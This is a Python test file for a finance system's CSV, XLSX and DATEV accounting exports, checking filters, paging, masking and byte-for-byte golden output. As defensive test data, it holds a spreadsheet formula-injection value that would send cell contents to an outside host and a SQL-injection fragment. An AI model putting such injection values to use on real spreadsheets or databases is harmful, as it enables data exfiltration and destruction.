"""Exports: the same filter as the screen, nothing in them a formula or a whole address, the same bytes each time."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from sqlalchemy.dialects.postgresql import insert

from api.domain.finance.datev_columns import COLUMNS
from api.models.finance import MismatchRow
from api.services.closing import listing as listings
from api.services.closing.datev_export import datev_batches, datev_file
from api.services.closing.exports import csv_of, write_xlsx
from api.services.closing.listing import FilterUnreadable, Wanted, part_of, shown, wanted_of
from api.services.closing.lists import LISTS
from api.services.closing.seal import verify_period
from tests.api.services.closing.months import EARLY_APRIL, MARCH, a_paid_charge, an_open_hold, close
from tests.bench import Bench

GOLDEN = Path(__file__).parents[3] / "golden" / "datev" / "EXTF_Buchungsstapel_2026-03_EUR.csv"


async def table(bench: Bench, name: str, wanted: Wanted | None = None) -> list[list[str]]:
    """Return a list as it is exported, read again."""
    parts = csv_of(work=bench.work, issuer=bench.ports.policy.issuer, listing=LISTS[name], wanted=wanted or Wanted())
    return list(csv.reader(io.StringIO("".join([part async for part in parts]), newline="")))


@pytest.mark.parametrize("name", sorted(LISTS))
async def test_every_list_is_exported_with_each_of_its_filters(bench: Bench, name: str) -> None:
    """Each filter of a list narrows it in SQL that runs; a filter that the list does not know is refused."""
    await a_paid_charge(bench)
    await bench.rows(
        "INSERT INTO wallet (driver_id, currency, blocked, level, version, created_at)"
        " VALUES ('drv_1', 'EUR', false, 'ok', 1, '2026-03-02T08:00Z') RETURNING 1"
    )
    whole = await table(bench, name)
    assert whole[0] == [column.name for column in LISTS[name].columns]
    values = {"period": MARCH, "since": "2026-03-01", "until": "2026-03-31", "currency": "XXX"}
    for each in LISTS[name].conditions:
        wanted = wanted_of({each: values.get(each, "none-such")})
        narrowed = await table(bench, name, wanted)
        assert narrowed == whole if each in {"period", "since", "until"} else narrowed == whole[:1]
    foreign = ({"period", "account", "kind", "partner_id"} - LISTS[name].conditions.keys()) or {"nothing"}
    if "nothing" not in foreign:
        with pytest.raises(FilterUnreadable):
            await table(bench, name, wanted_of({sorted(foreign)[0]: MARCH}))


async def test_the_export_is_what_the_screen_shows_in_parts_of_any_size(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows of one moment are neither lost nor repeated where a part ends, newest or oldest first."""
    for number in range(3):
        await an_open_hold(bench, f"drv_{number}")
        await a_paid_charge(bench, f"drv_paid{number}")
    for name in ("holds", "journal"):
        async with bench.work() as db:
            issuer = bench.ports.policy.issuer
            screen = await part_of(db=db, issuer=issuer, listing=LISTS[name], wanted=Wanted(currency="EUR"))
        monkeypatch.setattr(listings, "AT_ONCE", 2)
        exported = await table(bench, name, Wanted(currency="EUR"))
        monkeypatch.undo()
        assert len(exported) == len(screen.rows) + 1 > 6
        for row, line in zip(screen.rows, exported[1:], strict=True):
            assert [str(value) for value in shown(LISTS[name], row)][:2] == line[:2]


async def test_nothing_in_an_export_is_a_formula_or_a_whole_address(bench: Bench, tmp_path: Path) -> None:
    """Partners write ids and people write notes: both reach a spreadsheet as text, addresses with one letter."""
    evil = '=HYPERLINK("http://x/?"&A1) a.driver@example.com'
    async with bench.work() as db:
        connection = await db.connection()
        values = {
            "id": "mis_1",
            "reason": "cdr_without_session",
            "subject": evil,
            "opened_at": bench.clock.now(),
            "detail": {},
        }
        await connection.execute(insert(MismatchRow).values(**values, severity="breach", state="open"))

    (_, line) = await table(bench, "findings")
    assert line[4] == '\'=HYPERLINK("http://x/?"&A1) a***@example.com'
    path = tmp_path / "findings.xlsx"
    rows = await write_xlsx(
        work=bench.work, issuer=bench.ports.policy.issuer, listing=LISTS["findings"], wanted=Wanted(), path=path
    )
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert rows == 1
    assert "<f>" not in sheet
    assert "a***@example.com" in sheet
    assert "a.driver@" not in sheet
    again = tmp_path / "again.xlsx"
    await write_xlsx(
        work=bench.work, issuer=bench.ports.policy.issuer, listing=LISTS["findings"], wanted=Wanted(), path=again
    )
    assert again.read_bytes() == path.read_bytes()


@pytest.mark.parametrize("values", [{"since": "yesterday"}, {"period": "2026-13"}, {"search": "'; DROP"}])
def test_a_filter_that_is_none_is_refused(values: dict[str, str]) -> None:
    """What cannot be read is told by name, and never becomes SQL."""
    with pytest.raises(FilterUnreadable):
        wanted_of(values)


async def datev(bench: Bench) -> bytes:
    """Return DATEV's file of March."""
    parts = datev_file(work=bench.work, ports=bench.ports, now=bench.clock.now(), period=MARCH, currency="EUR")
    return b"".join([part async for part in parts])


async def test_datevs_file_is_the_golden_one(bench: Bench) -> None:
    """A shut month of two paid charges, one above its hold, byte for byte; every line balances and is positive."""
    await a_paid_charge(bench)
    await a_paid_charge(bench, "drv_2", cost="60.00")
    bench.clock.set(EARLY_APRIL)
    await close(bench)

    made = await datev(bench)

    lines = made.decode("cp1252").split("\r\n")
    assert lines[0].startswith('"EXTF";700;21;"Buchungsstapel";13;20260402080000000;;"RE";"";"";1001;1;20260101;4;')
    rows = list(csv.reader(lines[2:-1], delimiter=";"))
    assert {len(row) for row in rows} == {len(COLUMNS)} == {125}
    assert not any(row[0].startswith("-") for row in rows)
    saldo: dict[str, int] = {}
    for row in rows:
        amount = int(row[0].replace(",", "")) * (1 if row[1] == "S" else -1)
        saldo[row[6]] = saldo.get(row[6], 0) + amount
        saldo[row[7]] = saldo.get(row[7], 0) - amount
    assert saldo["1610"] == -8000  # two CDRs of partners, owed
    assert saldo["1410"] == 2140  # what the hold of 50.00 did not cover of 71.40
    assert sum(saldo.values()) == 0
    assert made == GOLDEN.read_bytes()


async def test_a_shut_month_is_exported_the_same_whatever_is_set_and_booked_later(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Other account numbers, later bookings, another clock: the files of a shut month stay as they were."""
    await a_paid_charge(bench)
    bench.clock.set(EARLY_APRIL)
    await close(bench)
    before = await datev(bench), await table(bench, "journal", Wanted(period=MARCH))
    await a_paid_charge(bench, "drv_2")
    monkeypatch.setattr("api.ports.accounting.CHARTS", {"03": {}})
    rules = type(bench.ports.policy.accounting)(numbers={"revenue": "4711"}, consultant=4242)
    object.__setattr__(bench.ports.policy, "accounting", rules)
    bench.clock.advance(1000)

    assert (await datev(bench), await table(bench, "journal", Wanted(period=MARCH))) == before
    found = await verify_period(work=bench.work, ports=bench.ports, now=bench.clock.now(), period=MARCH)
    assert all(each.is_same for each in found)


async def test_a_month_too_long_for_one_file_is_several(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each file begins with a header, none is longer than DATEV takes, and no journal is cut in two."""
    for number in range(3):
        await a_paid_charge(bench, f"drv_{number}")
    monkeypatch.setattr("api.services.closing.datev_export.MOST_LINES", 5)
    files: dict[int, bytes] = {}
    async for number, text in datev_batches(
        work=bench.work, ports=bench.ports, now=bench.clock.now(), period=MARCH, currency="EUR"
    ):
        files[number] = files.get(number, b"") + text

    counts = [text.count(b"\r\n") - 2 for text in files.values()]
    assert len(counts) > 1
    assert max(counts) <= 5
    assert all(text.startswith(b'"EXTF"') for text in files.values())
    slips = [{line.split(b";")[10] for line in text.split(b"\r\n")[2:-1]} for text in files.values()]
    assert not set.intersection(*slips)
